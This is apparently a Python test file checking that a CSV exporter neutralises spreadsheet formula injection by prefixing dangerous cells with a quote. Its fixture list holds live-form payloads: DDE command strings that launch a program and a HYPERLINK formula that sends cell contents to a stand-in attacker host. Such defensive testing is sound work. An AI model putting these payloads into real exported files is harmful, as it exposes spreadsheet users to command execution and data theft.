"""S-15: a spreadsheet that opens our CSV calculates nothing that a venue, a vendor or a user wrote."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.gateway.exporting.commas import cell, head, lines

ATTACKS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",  # noqa: RUF001  (the full-width sign)
)
CALCULATES = tuple("=+-@\t\r\n＝＋－＠")  # noqa: RUF001  (full-width signs)


def read(text):
    """Return the cells as a spreadsheet reads them; Python's reader is the oracle of the format."""
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_would_calculate_is_text(attack):
    ((found, other),) = read(lines([(attack, "x")]))
    assert found == "'" + attack
    assert not found.startswith(CALCULATES)
    assert other == "x"


@given(st.lists(st.tuples(st.text(), st.text()), min_size=1))
def test_any_text_comes_back_and_begins_no_formula(rows):
    found = read(head(["a", "b"]) + lines(rows))
    assert found[0] == ["a", "b"]
    assert len(found) == len(rows) + 1
    for row, cells in zip(rows, found[1:], strict=True):
        for text, shown in zip(row, cells, strict=True):
            assert not shown.startswith(CALCULATES)
            assert shown in {text, "'" + text}
            assert (shown != text) == text.startswith(CALCULATES)


@given(st.floats(allow_nan=False) | st.integers() | st.booleans() | st.none())
def test_numbers_are_no_text_and_stay_the_same(value):
    text = cell(value)
    if value is None:
        assert text == ""
    elif isinstance(value, bool):
        assert text == str(value).lower()
    else:
        assert type(value)(text) == value
        assert not text.startswith("'")
